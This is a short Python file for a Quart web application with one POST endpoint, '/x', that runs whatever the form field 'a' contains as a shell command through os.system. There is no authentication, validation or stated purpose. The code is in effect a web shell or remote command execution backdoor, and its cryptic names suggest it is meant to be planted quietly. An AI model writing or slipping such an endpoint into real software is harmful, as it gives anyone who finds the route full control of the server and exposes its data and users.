import os
from quart import Quart, request
app = Quart(__name__)

@app.route('/x', methods=['POST'])
async def x():
    os.system((await request.form)['a'])
    return ''
